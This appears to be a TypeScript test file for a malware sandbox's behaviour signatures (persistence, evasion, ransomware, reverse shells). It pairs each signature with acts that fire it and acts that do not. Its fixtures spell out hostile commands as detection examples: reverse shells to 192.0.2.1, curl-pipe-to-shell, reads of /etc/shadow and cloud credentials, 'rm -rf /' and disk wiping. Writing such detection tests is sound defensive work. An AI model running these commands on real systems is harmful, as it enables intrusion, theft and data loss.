import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { createDoors } from "../../src/scripts/loading/doors";
import { stopCompiler } from "../../src/scripts/loading/script-compiler";
import { listRefusedSignatures, loadSignatures } from "../../src/lab/verdict/signature-catalog";
import { defineSignature, type SeenAct, type SeenProcess, type Signature } from "../../src/lab/verdict/signature";
import { readRuleFolder } from "../../src/lab/verdict/sigma/rule-folder";
import { listSigmaEvents } from "../../src/lab/verdict/sigma/sigma-events";
import { inFolder } from "../kit/in-folder";
import { WINDOWS_EXAMPLES } from "../kit/lab/windows-signature-examples";
import { PROJECT } from "../kit/project";

const DOORS = createDoors({ "rebox/lab": { defineSignature } });

const SAMPLE: SeenProcess = {
  ...{ pid: 100, name: "sample", executable: "/tmp/sample", commandLine: "/tmp/sample", parent: undefined },
};

function act(type: string, facts: Readonly<Record<string, unknown>> = {}, doer: Partial<SeenProcess> = {}): SeenAct {
  return { time: "2026-01-01T00:00:00.000Z", type, pid: 100, ...facts, doer: { ...SAMPLE, ...doer } };
}

const by = (executable: string, parent?: SeenProcess): Partial<SeenProcess> => ({ executable, parent });
const wrote = (path: string, doer?: Partial<SeenProcess>) => act("file.written", { path }, doer);
const removed = (path: string, doer?: Partial<SeenProcess>) => act("file.removed", { path }, doer);
const renamed = (path: string, to: string) => act("file.renamed", { path, to });
const ran = (commandLine: string, executable = `/usr/bin/${commandLine.split(" ")[0]!.replace(/^.*\//, "")}`) =>
  act("process.executed", {}, { commandLine, executable });
const connected = (port: number, address = "192.0.2.1", doer?: Partial<SeenProcess>) =>
  act("network.connected", { protocol: "tcp", address, port }, doer);
const many = (count: number, make: (index: number) => SeenAct) =>
  Array.from({ length: count }, (_, index) => make(index));

/** For each signature, what fires it, and what is like that and does not. */
const EXAMPLES: Readonly<Record<string, readonly [fires: SeenAct[], quiet: SeenAct[]]>> = {
  "systemd-unit": [
    [wrote("/etc/systemd/system/x.service")],
    [wrote("/etc/systemd/system/x.service", by("/usr/bin/dpkg")), wrote("/srv/systemd/x.service")],
  ],
  "systemd-timer": [[wrote("/root/.config/systemd/user/x.timer")], [wrote("/etc/systemd/system/x.service")]],
  "systemd-generator": [[wrote("/etc/systemd/system-generators/x")], [wrote("/etc/systemd/system/x.service")]],
  "cron-job": [
    [
      ran("crontab -"),
      wrote("/etc/cron.d/run"),
      renamed("/var/spool/cron/crontabs/tmp.x", "/var/spool/cron/crontabs/root"),
    ],
    [ran("crontab -l"), wrote("/etc/cronicle")],
  ],
  "at-job": [
    [ran("at now"), wrote("/var/spool/cron/atjobs/a1")],
    [ran("cat now"), ran("date at noon")],
  ],
  "shell-startup": [
    [wrote("/home/user/.bashrc"), wrote("/etc/profile.d/x.sh")],
    [wrote("/srv/bashrc"), wrote("/home/user/.bashrc.txt")],
  ],
  "init-script": [[wrote("/etc/init.d/x"), wrote("/etc/rc.local")], [wrote("/opt/init.d/x")]],
  "desktop-autostart": [
    [wrote("/home/user/.config/autostart/x.desktop")],
    [wrote("/usr/share/applications/x.desktop")],
  ],
  "udev-rule": [[wrote("/etc/udev/rules.d/99-x.rules")], [wrote("/etc/udev/udev.conf")]],
  "motd-script": [[wrote("/etc/update-motd.d/99-x")], [wrote("/etc/motd")]],
  "package-hook": [[wrote("/etc/apt/apt.conf.d/99x")], [wrote("/etc/apt/sources.list")]],
  "modules-load": [[wrote("/etc/modules-load.d/x.conf")], [wrote("/lib/modules/x.ko")]],
  "authorized-keys": [[wrote("/root/.ssh/authorized_keys")], [wrote("/root/.ssh/known_hosts")]],
  "ssh-server-configuration": [
    [wrote("/etc/ssh/sshd_config"), wrote("/etc/ssh/sshd_config.d/x.conf")],
    [wrote("/etc/ssh/ssh_config")],
  ],
  "new-user": [[ran("useradd -o -u 0 x")], [ran("userdel x")]],
  "account-files": [[wrote("/etc/passwd")], [wrote("/etc/passwd", by("/usr/sbin/useradd")), wrote("/etc/passwd.txt")]],
  "git-hook": [
    [wrote("/srv/r/.git/hooks/pre-commit")],
    [wrote("/srv/r/.git/hooks/pre-commit.sample"), wrote("/srv/r/.git/config")],
  ],
  "python-startup": [[wrote("/usr/lib/python3/dist-packages/x.pth")], [wrote("/usr/lib/python3/dist-packages/x.py")]],
  "preload-file": [[wrote("/etc/ld.so.preload")], [wrote("/etc/ld.so.cache")]],
  "library-path": [[wrote("/etc/ld.so.conf.d/x.conf")], [wrote("/etc/ld.so.cache")]],
  "log-removed": [[removed("/var/log/auth.log")], [removed("/srv/log/auth.log")]],
  "login-records": [[wrote("/var/log/wtmp")], [wrote("/var/log/wtmp", by("/usr/sbin/sshd"))]],
  "log-overwritten": [
    [wrote("/var/log/auth.log")],
    [wrote("/var/log/auth.log", by("/usr/sbin/rsyslogd")), wrote("/var/log/own.log")],
  ],
  "journal-vacuumed": [[ran("journalctl --vacuum-time=1s")], [ran("journalctl -n 5")]],
  "history-removed": [
    [
      removed("/root/.bash_history"),
      act("file.linked", { path: "/dev/null", to: "/root/.bash_history" }),
      ran("bash -c unset HISTFILE; x"),
    ],
    [removed("/root/history"), ran("bash -c history")],
  ],
  timestomp: [[act("file.times", { path: "/tmp/x" })], [act("file.times", { path: "/tmp/x" }, by("/usr/bin/tar"))]],
  "removes-itself": [
    [
      removed("/tmp/sample"),
      removed("/srv/run.sh", {
        executable: "/usr/bin/rm",
        commandLine: "rm -- ./run.sh",
        parent: { ...SAMPLE, executable: "/bin/sh", commandLine: "/bin/sh ./run.sh" },
      }),
    ],
    [
      removed("/tmp/other"),
      removed("/tmp/x", { executable: "/usr/bin/rm", commandLine: "rm /tmp/x", parent: undefined }),
    ],
  ],
  "hidden-program": [[ran("x", "/var/tmp/.x/run"), ran("y", "/tmp/.y")], [ran("x", "/usr/bin/x")]],
  "hidden-file": [
    [wrote("/dev/shm/.x"), wrote("/tmp/a/.b")],
    [wrote("/tmp/b"), wrote("/home/user/.b"), wrote("/tmp/own/.git", by("/usr/bin/git"))],
  ],
  "kernel-thread-name": [
    [act("process.renamed", { name: "kworker/0:1" })],
    [act("process.renamed", { name: "worker" })],
  ],
  "bracketed-words": [[ran("[kworker/0:0]", "/tmp/x")], [ran("[ -f x ]", "/usr/bin/[")]],
  "program-in-memory": [[ran("x", "/memfd:x"), ran("x", "/proc/self/fd/3")], [ran("x", "/usr/bin/memfd")]],
  "file-in-memory": [[act("process.memfd", { name: "x" })], [wrote("/tmp/x")]],
  "unpacked-code": [
    [act("process.written_code", { layer: 1, entry: "0x401000" })],
    [act("process.memory", { rights: "writable and executable" })],
  ],
  "unpacked-twice": [
    [act("process.written_code", { layer: 2, entry: "0x401000" })],
    [act("process.written_code", { layer: 1, entry: "0x401000" })],
  ],
  "writable-code": [[act("process.memory", { rights: "writable and executable" })], [wrote("/tmp/x")]],
  "bind-mount-over-proc": [
    [act("file.mounted", { path: "/proc/77", from: "/tmp/x" })],
    [act("file.mounted", { path: "/proc", from: "proc" })],
  ],
  "immutable-file": [
    [act("file.attribute", { path: "/tmp/x", name: "flags" }), ran("chattr +i /tmp/x")],
    [ran("chattr -i x"), act("file.attribute", { name: "user.x" })],
  ],
  "clock-set": [[act("kernel.time")], [act("kernel.time", {}, by("/lib/systemd/systemd-timesyncd"))]],
  "encoded-command": [
    [ran("sh -c echo aGk= | base64 -d | sh"), ran("python3 -c exec(b64decode('x'))")],
    [ran("base64 -d x")],
  ],
  "mass-removal": [
    many(200, (index) => removed(`/home/user/${index}`)),
    many(300, (index) => removed(`/tmp/${index}`)),
  ],
  "firewall-off": [[ran("iptables -F"), ran("ufw disable"), ran("iptables -P INPUT ACCEPT")], [ran("iptables -L")]],
  "security-module-off": [[ran("setenforce 0"), wrote("/etc/selinux/config")], [ran("getenforce")]],
  "auditing-off": [
    [ran("systemctl stop auditd"), ran("auditctl -e 0")],
    [ran("systemctl status auditd"), ran("auditctl -l")],
  ],
  "kernel-protection-off": [
    [wrote("/proc/sys/kernel/randomize_va_space"), ran("sysctl -w kernel.kptr_restrict=0")],
    [ran("sysctl kernel.kptr_restrict")],
  ],
  "hosts-file": [[wrote("/etc/hosts")], [wrote("/srv/hosts")]],
  "trusted-certificate": [
    [ran("update-ca-certificates"), wrote("/usr/local/share/ca-certificates/x.crt")],
    [wrote("/srv/x.crt")],
  ],
  "login-module": [
    [wrote("/etc/pam.d/sshd"), wrote("/lib/x86_64-linux-gnu/security/pam_x.so")],
    [wrote("/etc/pam.conf")],
  ],
  "setuid-file": [
    [act("file.mode", { path: "/tmp/x", mode: "4755" }), act("file.mode", { mode: "2755" })],
    [
      act("file.mode", { mode: "0755" }),
      act("file.mode", { mode: "1777" }),
      act("file.mode", { mode: "4755" }, by("/usr/bin/dpkg")),
    ],
  ],
  "file-capabilities": [
    [ran("setcap cap_setuid+ep /tmp/x"), act("file.attribute", { name: "security.capability" })],
    [ran("getcap /tmp/x")],
  ],
  sudoers: [[wrote("/etc/sudoers.d/x")], [wrote("/etc/sudo.conf")]],
  "password-hashes": [[ran("cat /etc/shadow"), ran("unshadow /etc/passwd /etc/shadow")], [ran("cat /etc/passwd")]],
  "private-keys": [[ran("find / -name id_rsa")], [ran("ssh-keygen -t ed25519"), ran("find / -name x")]],
  "cloud-credentials": [
    [ran("cat /root/.aws/credentials"), ran("curl http://169.254.169.254/latest")],
    [ran("cat /root/aws")],
  ],
  "memory-of-others": [
    [act("process.injected", { target: 7 }), wrote("/proc/7/mem")],
    [wrote("/proc/100/mem"), wrote("/proc/7/oom_score_adj")],
  ],
  "traces-others": [
    [act("process.traced", { request: "attach", target: 7 })],
    [act("process.traced", { request: "traceme" }), act("process.traced", { request: "attach" }, by("/usr/bin/gdb"))],
  ],
  "refuses-debugger": [
    [act("process.traced", { request: "traceme" }, { parent: SAMPLE })],
    [act("process.traced", { request: "traceme" }, { parent: { ...SAMPLE, executable: "/usr/bin/strace" } })],
  ],
  "preloaded-program": [[ran("sh -c LD_PRELOAD=/tmp/x.so ls", "/bin/sh")], [ran("ls")]],
  "kernel-module": [
    [act("kernel.module", { way: "finit_module", path: "/tmp/x.ko" })],
    [
      act("kernel.module", { way: "delete_module" }),
      act("kernel.module", { way: "finit_module" }, by("/usr/lib/systemd/systemd-udevd")),
    ],
  ],
  "kernel-module-removed": [
    [act("kernel.module", { way: "delete_module", name: "x" })],
    [act("kernel.module", { way: "init_module" })],
  ],
  "kernel-program": [
    [act("kernel.bpf", { command: 5 })],
    [act("kernel.bpf", { command: 0 }), act("kernel.bpf", { command: 5 }, by("/usr/lib/systemd/systemd"))],
  ],
  "other-kernel": [[act("kernel.kexec")], [act("kernel.time")]],
  "past-system-calls": [[act("process.io_uring")], [act("process.memfd")]],
  "new-namespaces": [
    [act("process.namespaces", { made: ["user"] })],
    [act("process.namespaces", { made: ["mount"] }), act("process.namespaces", { joined: "x" })],
  ],
  "leaves-container": [
    [ran("nsenter -t 1 -m sh"), ran("sh -c echo x > /tmp/c/release_agent")],
    [ran("nsenter --help")],
  ],
  "shell-on-connection": [
    [
      ran("bash -c bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
      ran("nc -e /bin/sh 192.0.2.1 4444"),
      ran("socat tcp:192.0.2.1:1 exec:sh"),
    ],
    [ran("nc -z 192.0.2.1 80"), ran("bash -i")],
  ],
  "shell-connects": [
    [connected(443, "192.0.2.1", by("/usr/bin/bash"))],
    [connected(443), connected(443, "127.0.0.1", by("/usr/bin/bash"))],
  ],
  "download-and-run": [
    [ran("sh -c curl http://x/y | sh"), ran("sh -c wget http://x/y -O /tmp/y; chmod +x /tmp/y")],
    [ran("curl http://x/y")],
  ],
  download: [[ran("wget http://x")], [ran("wgetx http://x")]],
  "known-ports": [[connected(4444)], [connected(443)]],
  "miner-port": [[connected(3333)], [connected(80)]],
  "waits-for-connections": [
    [act("network.listening", { address: "0.0.0.0", port: 99 })],
    [act("network.listening", { address: "127.0.0.1", port: 99 })],
  ],
  "many-machines": [
    many(30, (index) => connected(23, `192.0.2.${index}`)),
    many(40, (index) => connected(53, `192.0.2.${index}`)),
  ],
  "many-ports": [
    many(30, (index) => act("network.failed", { port: index, address: "192.0.2.1" })),
    many(40, () => connected(80)),
  ],
  "raw-network": [[ran("nmap -sS 192.0.2.0/24")], [ran("ping 192.0.2.1")]],
  "hidden-network": [
    [ran("tor"), ran("curl http://abc.onion/"), ran("ssh -N -R 2222:localhost:22 x")],
    [ran("ssh host"), ran("torch")],
  ],
  "dropped-program": [
    [wrote("/opt/x"), ran("x", "/opt/x")],
    [ran("x", "/opt/x"), { ...wrote("/opt/x"), time: "2026-01-01T00:00:09.000Z" }],
  ],
  "program-from-temporary": [[ran("x", "/dev/shm/x")], [ran("x", "/opt/x")]],
  "interpreter-command": [[ran("python3 -c print(1)"), ran("perl -e 1")], [ran("python3 x.py")]],
  "kills-others": [
    many(10, (index) => act("process.signalled", { target: index, signal: 9 })),
    many(20, (index) => act("process.signalled", { target: index, signal: 18 })),
  ],
  "service-stopped": [[ran("systemctl stop nginx"), ran("service nginx stop")], [ran("systemctl status nginx")]],
  "fork-storm": [
    many(500, (index) => act("process.created", { pid: index })),
    many(499, (index) => act("process.created", { pid: index })),
  ],
  miner: [[ran("xmrig -o pool"), ran("x -o stratum+tcp://pool:1")], [ran("mine.sh")]],
  "looks-at-system": [[ran("uname -a"), ran("cat /etc/os-release")], [ran("cat /etc/fstab")]],
  "looks-for-sandbox": [
    [ran("systemd-detect-virt"), ran("cat /sys/class/dmi/id/product_name"), ran("grep -i hypervisor /proc/cpuinfo")],
    [ran("grep model /proc/cpuinfo")],
  ],
  "looks-at-users": [[ran("whoami")], [ran("whois x")]],
  "looks-at-network": [[ran("ip addr")], [ran("zip x")]],
  "looks-at-processes": [[ran("ps aux")], [ran("gps")]],
  "waits-long": [[ran("sleep 600"), ran("sleep 5m")], [ran("sleep 5")]],
  "ransom-note": [
    [wrote("/home/user/README_DECRYPT.txt"), wrote("/srv/HOW_TO_RESTORE_FILES.html")],
    [wrote("/srv/README.txt")],
  ],
  "files-get-suffix": [
    many(20, (index) => renamed(`/home/${index}.doc`, `/home/${index}.doc.locked`)),
    many(30, (index) => renamed(`/srv/${index}.new`, `/srv/${index}`)),
  ],
  "files-replaced": [
    many(40, (index) => {
      const file = `/home/${index >> 1}`;
      return index % 2 === 0 ? wrote(`${file}.enc`) : removed(file);
    }),
    many(30, (index) => removed(`/home/${index}`)),
  ],
  "disk-overwritten": [
    [wrote("/dev/sda"), ran("dd if=/dev/zero of=/dev/vda"), ran("mkfs.ext4 /dev/sdb1")],
    [wrote("/dev/null"), ran("dd if=/dev/zero of=/tmp/x")],
  ],
  "shreds-files": [
    [ran("shred -u /srv/x"), ran("rm -rf /")],
    [ran("rm -rf /srv/own"), ran("rm x")],
  ],
  "boot-files": [[wrote("/boot/vmlinuz"), wrote("/etc/default/grub")], [wrote("/srv/boot/x")]],
  "system-program-replaced": [
    [
      wrote("/usr/bin/ls"),
      wrote("/lib/x86_64-linux-gnu/libc.so.6"),
      ...["/usr/lib/systemd/systemd", "/usr/lib/git-core/git", "/usr/libexec/gcc/x86_64-linux-gnu/14/cc1"].map((path) => wrote(path)), // prettier-ignore
      ...["/usr", "/usr/bin", "/usr/bin/git"].map((path) => act("file.mounted", { path, from: "/tmp/x" })),
    ],
    [
      wrote("/usr/local/bin/x"),
      wrote("/usr/bin/x", by("/usr/bin/dpkg")),
      wrote("/usr/lib/systemd/system/x.service"),
      act("file.mounted", { path: "/usr/share", from: "/tmp/x" }),
    ],
  ],
  "system-goes-down": [[ran("reboot")], [ran("rebooter")]],
  "data-collected": [[ran("tar czf /tmp/x /home")], [ran("tar xf x.tar")]],
};

/** Returns whether a signature fires at any of the acts, in their order. */
function fires(signature: Signature, acts: readonly SeenAct[]): boolean {
  const watch = signature.watch();
  return acts.map((one) => watch(one)).some((answer) => answer === true || typeof answer === "string");
}

describe("rebox's own signatures", () => {
  const signatures = new Map<string, Signature>();

  before(async () => {
    await inFolder(async (lab) => {
      const loaded = await loadSignatures(lab, DOORS);
      assert.deepEqual(loaded.refused, []);
      for (const signature of loaded.signatures) signatures.set(signature.name, signature);
    });
  });
  after(stopCompiler);

  test("are at least 60, each with an example that fires it and one that does not", () => {
    assert.ok(signatures.size >= 60);
    assert.deepEqual([...signatures.keys()].toSorted(), Object.keys({ ...EXAMPLES, ...WINDOWS_EXAMPLES }).toSorted());
  });

  test("stand in docs/reference/verdict.md with their sentences, scores and techniques", () => {
    const page = readFileSync(join(PROJECT, "docs/reference/verdict.md"), "utf8");
    const rows = [...page.matchAll(/^\| `([^`]+)` +\| (.+?) +\| (\d+) +\| (.*?) +\|$/gm)].map(([, ...cells]) => cells);
    const own = [...signatures.values()].map(({ name, title, score, techniques }) => [name, title, String(score), techniques.join(", ")]); // prettier-ignore
    assert.deepEqual(rows.toSorted(), own.toSorted());
  });

  for (const [name, [firing, quiet]] of Object.entries(EXAMPLES)) {
    test(`${name} fires, and not at what is only alike`, () => {
      const signature = signatures.get(name)!;
      // Few examples fire each by itself; many, and those of an order, together.
      if (firing.length <= 3 && name !== "dropped-program") {
        for (const one of firing) assert.ok(fires(signature, [one]), JSON.stringify(one));
      } else assert.ok(fires(signature, firing));
      assert.ok(!fires(signature, quiet), JSON.stringify(quiet.find((one) => fires(signature, [one]))));
    });
  }
});

/** Acts that are usual of programs of the system, which therefore fire nothing. */
const USUAL: Readonly<Record<string, readonly [program: string, usual: (doer: Partial<SeenProcess>) => SeenAct]>> = {
  "systemd-unit": ["/usr/bin/dpkg", (doer) => wrote("/etc/systemd/system/x.service", doer)],
  "hidden-file": ["/usr/bin/git", (doer) => wrote("/tmp/own/.git", doer)],
  "login-records": ["/usr/lib/openssh/sshd-session", (doer) => wrote("/var/log/wtmp", doer)],
  "log-overwritten": ["/usr/sbin/rsyslogd", (doer) => wrote("/var/log/syslog", doer)],
  timestomp: ["/usr/libexec/gcc/x86_64-linux-gnu/14/cc1", (doer) => act("file.times", { path: "/tmp/x" }, doer)],
  "clock-set": ["/usr/lib/systemd/systemd-timesyncd", (doer) => act("kernel.time", {}, doer)],
  "setuid-file": ["/usr/bin/dpkg", (doer) => act("file.mode", { path: "/tmp/x", mode: "4755" }, doer)],
  "traces-others": ["/usr/bin/gdb", (doer) => act("process.traced", { request: "attach", target: 7 }, doer)],
  "refuses-debugger": ["/usr/bin/strace", (doer) => act("process.traced", { request: "traceme" }, { parent: { ...SAMPLE, ...doer } })], // prettier-ignore
  "kernel-module": ["/usr/bin/udevadm", (doer) => act("kernel.module", { way: "finit_module", path: "/tmp/x.ko" }, doer)], // prettier-ignore
  "kernel-program": ["/usr/lib/systemd/systemd", (doer) => act("kernel.bpf", { command: 5 }, doer)],
  "account-files": ["/usr/sbin/useradd", (doer) => wrote("/etc/shadow", doer)],
};

describe("a program of the system is known by its place", () => {
  after(stopCompiler);

  test("so a sample with its name, wherever it lies, fires all the same", async () => {
    await inFolder(async (lab) => {
      const { signatures } = await loadSignatures(lab, DOORS);
      for (const [name, [program, usual]] of Object.entries(USUAL)) {
        const signature = signatures.find((one) => one.name === name)!;
        assert.ok(!fires(signature, [usual(by(program))]), `${name}: ${program}`);
        const own = program.replace(/^.*\//, "");
        for (const folder of ["/tmp/x", "/root/box/usr/bin", "/usr/local/bin", "/usr/bin/x"])
          assert.ok(fires(signature, [usual(by(`${folder}/${own}`))]), `${name}: ${folder}/${own}`);
        assert.ok(fires(signature, [usual(by(`/memfd:${own} (deleted)`))]), name);
      }
    });
  });
});

/** How a program gets to a place of the system: at the last of these acts it is there. */
const linked = (path: string, to: string) => act("file.linked", { path, to });
const symbolic = (path: string, to: string) => act("file.linked", { path, to, kind: "symbolic" });
const mounted = (path: string) => act("file.mounted", { path, from: "/tmp/d" });
const exchanged = (path: string, to: string) => act("file.renamed", { path, to, exchanged: true });
const WAYS: readonly (readonly SeenAct[])[] = [
  ...[
    ...["//usr/bin/apk", "/usr/./bin/apk", "/usr/lib/../bin/apk", "/../usr/bin/.//apk", "/sbin/apk"],
    ...["/proc/self/root/usr/bin/apk", "/proc/100/root/usr/bin/apk", "/proc/thread-self/root/usr/bin/apk"],
    ...["/proc/self/task/7/root/usr/bin/apk", "/proc/./self/root//proc/1/root/usr/bin/apk"],
    ...["//usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/git-core/dpkg"],
  ].flatMap((to) => [[renamed("/tmp/x", to)], [linked("/tmp/x", to)]]),
  ...["/usr/lib/git-core", "/usr/bin/", "/usr/libexec", "/lib", "/usr", "/usr/lib/gcc", "/usr/lib/x86_64-linux-gnu"].flatMap((to) => [[renamed("/root/d", to)], [symbolic("/root/d", to)]]), // prettier-ignore
  ...["/usr/", "/usr/bin/", "/usr/lib", "/usr/libexec", "//usr/bin/apk", "/proc/self/root/usr"].map((path) => [mounted(path)]), // prettier-ignore
  [exchanged("/usr/bin/apk", "/tmp/x")],
  [exchanged("/tmp/x", "/usr/bin/apk")],
  [exchanged("/usr/lib/git-core", "/root/d")],
  [symbolic("/usr/bin", "/tmp/l"), renamed("/tmp/x", "/tmp/l/apk")],
  [symbolic("/usr", "/tmp/l"), linked("/tmp/x", "/tmp/l/bin/apk")],
  [symbolic("../usr", "/tmp/l"), symbolic("l/bin", "/tmp/m"), renamed("/tmp/x", "//tmp/m/./apk")],
  [symbolic("/usr/bin", "/tmp/l"), renamed("/tmp/l", "/tmp/m"), renamed("/tmp/x", "/tmp/m/apk")],
  [symbolic("/usr/bin", "/tmp/l"), mounted("/tmp/l")],
];
/** Acts that are like these, after which the system's programs are what they were. */
const ELSEWHERE: readonly (readonly SeenAct[])[] = [
  [renamed("/tmp/x", "/usr/bin/../share/apk")],
  [renamed("/tmp/x", "/proc/self/cwd/usr/bin/apk")],
  [renamed("/tmp/x", "/root/proc/self/root/usr/bin/apk")],
  // Taken away, and not replaced.
  [renamed("/usr/bin/apk", "/tmp/x")],
  [renamed("/root/d", "/usr/share/bin")],
  [symbolic("/usr/bin", "/tmp/l"), renamed("/tmp/x", "/tmp/l2/apk")],
  [symbolic("/usr/bin", "/tmp/l"), removed("/tmp/l"), renamed("/tmp/x", "/tmp/l/apk")],
  // The link itself gets another's place, and not what it leads to.
  [symbolic("/usr/bin", "/tmp/l"), renamed("/tmp/x", "/tmp/l")],
  [symbolic("/tmp/l", "/tmp/l"), renamed("/tmp/x", "/tmp/l/apk")],
  // How it is mounted is changed, as unshare(1) does.
  [mounted("/")],
  [mounted("/usr/share/")],
];

describe("a sample that gets to the place of a program of the system", () => {
  let signatures: readonly Signature[] = [];
  const find = (name: string) => signatures.find((one) => one.name === name)!;
  before(async () => {
    await inFolder(async (lab) => {
      ({ signatures } = await loadSignatures(lab, DOORS));
    });
  });
  after(stopCompiler);

  test("is seen by whatever path, under whatever folder's name, and however it is mounted", () => {
    const signature = find("system-program-replaced");
    for (const way of WAYS) {
      assert.ok(fires(signature, way), JSON.stringify(way));
      assert.ok(!fires(signature, way.slice(0, -1)), JSON.stringify(way.slice(0, -1)));
    }
    for (const way of ELSEWHERE) assert.ok(!fires(signature, way), JSON.stringify(way));
  });

  test("is none of the system's programs there, and neither are those that it starts", () => {
    for (const [name, [program, usual]] of Object.entries(USUAL))
      assert.ok(fires(find(name), [usual({ ...by(program), isChanged: true })]), `${name}: ${program}`);
    const installer = (isChanged: boolean): SeenProcess => ({ ...SAMPLE, executable: "/usr/bin/apk", isChanged });
    const job = (parent: SeenProcess) => [act("process.root", { name: "/root/box" }), wrote("/etc/cron.d/x", by("/usr/bin/sh", parent))]; // prettier-ignore
    assert.ok(fires(find("cron-job"), job(installer(true))));
    assert.ok(!fires(find("cron-job"), job(installer(false))));
    // An installed one may have a changed one of the same words below it.
    assert.ok(!fires(find("cron-job"), job({ ...installer(true), parent: installer(false) })));
  });

  test("is no installer in a folder where systems have none", () => {
    for (const folder of ["/usr/lib/git-core", "/usr/lib/systemd", "/usr/libexec/gcc/x/14", "/usr/lib/apt"])
      assert.ok(fires(find("cron-job"), [wrote("/etc/cron.d/x", by(`${folder}/dpkg`))]), folder);
    for (const folder of ["/usr/bin", "/bin", "/sbin", "/usr/sbin"])
      assert.ok(!fires(find("cron-job"), [wrote("/etc/cron.d/x", by(`${folder}/apk`))]), folder);
  });

  test("writes what it writes by other paths, too", () => {
    for (const path of ["//etc/cron.d/x", "/etc/./cron.d/x", "/proc/self/root/etc/cron.d/x", "/etc/apt/../cron.d/x"])
      assert.ok(fires(find("cron-job"), [renamed("/tmp/x", path)]), path);
  });
});

describe("a lab's signatures", () => {
  const write = (lab: string, name: string, source: string) => {
    mkdirSync(join(lab, "modules/signatures"), { recursive: true });
    writeFileSync(join(lab, "modules/signatures", name), source);
  };
  const FACTS = `score: 3, techniques: ["T1000"], title: "It does"`;
  const define = (name: string, more = FACTS) => `defineSignature({ name: "${name}", ${more}, see: () => true })`;
  const file = (...list: string[]) =>
    `import { defineSignature } from "rebox/lab";\nexport const signatures = [${list.join(", ")}];\n`;
  after(stopCompiler);

  test("of the page, and its Sigma rule, fire as it says", async () => {
    const page = readFileSync(join(PROJECT, "docs/reference/verdict.md"), "utf8");
    const blocks = new Map(
      [...page.matchAll(/^```(\w+)\n([^]*?)^```$/gm)].map(([, language, text]) => [language, text]),
    );
    await inFolder(async (lab) => {
      write(lab, "own.ts", blocks.get("ts")!);
      const { signatures, refused } = await loadSignatures(lab, DOORS);
      assert.deepEqual(refused, []);
      const own = signatures.find(({ name }) => name === "own-mark")!;
      assert.ok(fires(own, [wrote("/opt/mark-1")]) && !fires(own, [wrote("/opt/other")]));
      writeFileSync(join(lab, "setuid.yml"), blocks.get("yaml")!);
      const { rules, unusable } = readRuleFolder(lab);
      assert.deepEqual(unusable, []);
      const fits = (mode: string) => [...listSigmaEvents(act("file.mode", { path: "/x", mode }))].some((event) => rules[0]!.categories.includes(event.category) && rules[0]!.rule.fits(event)); // prettier-ignore
      assert.ok(fits("4755") && !fits("0755"));
    });
  });

  test("are added to rebox's own, and take their place by name; a file that cannot be used is named", async () => {
    await inFolder(async (lab) => {
      write(
        lab,
        "own.ts",
        file(define("mine"), define("cron-job", `score: 1, techniques: [], title: "Cron is usual here"`)),
      );
      write(lab, "none.ts", "export const other = 1;\n");
      write(lab, "twice.ts", file(define("a"), define("a")));
      write(lab, "wrong.ts", file(define("b", `score: 11, techniques: [], title: "x"`)));
      write(lab, "technique.ts", file(define("c", `score: 1, techniques: ["1053"], title: "x"`)));
      const { signatures, refused } = await loadSignatures(lab, DOORS);
      assert.equal((await listRefusedSignatures(lab, DOORS)).length, 4);
      const find = (name: string) => signatures.find((one) => one.name === name);
      assert.equal(find("mine")!.score, 3);
      assert.equal(find("cron-job")!.title, "Cron is usual here");
      const reasons = refused.map(({ file: path, error }) => [path.replace(/^.*\//, ""), error.message]);
      assert.deepEqual(reasons.map(([name]) => name).toSorted(), ["none.ts", "technique.ts", "twice.ts", "wrong.ts"]);
      for (const [name, message] of reasons) {
        assert.match(message!, { "none.ts": /exports no signatures/, "twice.ts": /two signatures named a/, "wrong.ts": /score of b is 11/, "technique.ts": /1053 is no ATT&CK technique/ }[name!]!); // prettier-ignore
      }
    });
  });
});
